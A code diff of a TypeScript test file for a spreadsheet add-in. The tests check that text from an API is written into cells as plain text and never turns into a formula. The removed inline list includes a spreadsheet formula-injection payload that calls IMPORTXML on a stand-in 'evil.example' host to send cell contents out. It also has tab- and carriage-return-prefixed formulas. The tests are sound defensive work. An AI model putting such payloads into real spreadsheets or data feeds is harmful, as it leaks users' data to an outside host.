@@ -1,31 +1,14 @@
 import { describe, expect, it } from "vitest";
 import type { DemoReply } from "../../workbench/demo-api/wire";
 import { HOSTILE_TEXTS } from "../../workbench/demo-api/hostile-text";
+import { SHAPE_SHIFTING_TEXTS } from "../fakes/shape-shifting-texts";
 import { openAddin, websites, type OpenAddin } from "./open-addin";
 
 const [company = ""] = websites(1);
-const TEXTS = [
-  '=IMPORTXML("https://evil.example/?"&A1,"//a")',
-  "+1",
-  "-1",
-  "@x",
-  "'x",
-  "00123",
-  "1/2",
-  "11-50",
-  "3-5",
-  "1e5",
-  "12:30",
-  "50%",
-  "TRUE",
-  "Jan 5",
-  "\t=1+1",
-  "\r=1+1",
-];
 const LONG = "x".repeat(60_000);
 
 describe("A text of the API arrives as that text", () => {
-  it.each(TEXTS)("%j from an enrichment, beside its company", async (text) => {
+  it.each(SHAPE_SHIFTING_TEXTS)("%j from an enrichment, beside its company", async (text) => {
     const addin = await openAddin({ column: ["Website", company] });
     addin.spoil = replaced({ city: text });
 
@@ -53,7 +36,9 @@ describe("A text of the API arrives as that text", () => {
     ] as const) {
       const addin = await openAddin({ column: ["Website", company] });
       let next = 0;
-      addin.spoil = replaced({ [field]: () => TEXTS[next++ % TEXTS.length] ?? "" });
+      addin.spoil = replaced({
+        [field]: () => SHAPE_SHIFTING_TEXTS[next++ % SHAPE_SHIFTING_TEXTS.length] ?? "",
+      });
 
       const done = await addin.run({ kind, limit: 20 });
 
@@ -62,7 +47,10 @@ describe("A text of the API arrives as that text", () => {
       const count = shown.length;
       expect(count).toBeGreaterThan(10);
       // Every post got the next text, and the sheet may order its rows as it likes.
-      const given = Array.from({ length: count }, (_, post) => TEXTS[post % TEXTS.length] ?? "");
+      const given = Array.from(
+        { length: count },
+        (_, post) => SHAPE_SHIFTING_TEXTS[post % SHAPE_SHIFTING_TEXTS.length] ?? "",
+      );
       expect(countsOf(shown)).toEqual(countsOf(given));
       expect(formulasIn(addin)).toEqual([]);
     }
@@ -81,7 +69,7 @@ describe("A text of the API arrives as that text", () => {
 
   it("on the sheet of a list", async () => {
     const addin = await openAddin();
-    addin.spoil = replaced({ name: TEXTS[0]!, company_name: TEXTS[0]! });
+    addin.spoil = replaced({ name: SHAPE_SHIFTING_TEXTS[0]!, company_name: SHAPE_SHIFTING_TEXTS[0]! });
 
     const result = await addin.value("generateList", {
       filters: { "location.hq.country": ["DEU"] },
@@ -91,7 +79,7 @@ describe("A text of the API arrives as that text", () => {
 
     const sheet = addin.workbook.sheetNamed(result.sheetName)!;
     expect(sheet.lastRow).toBe(6);
-    expect(sheet.getValues(sheet.dataRange).flat()).toContain(TEXTS[0]);
+    expect(sheet.getValues(sheet.dataRange).flat()).toContain(SHAPE_SHIFTING_TEXTS[0]);
     expect(formulasIn(addin)).toEqual([]);
   });
 });
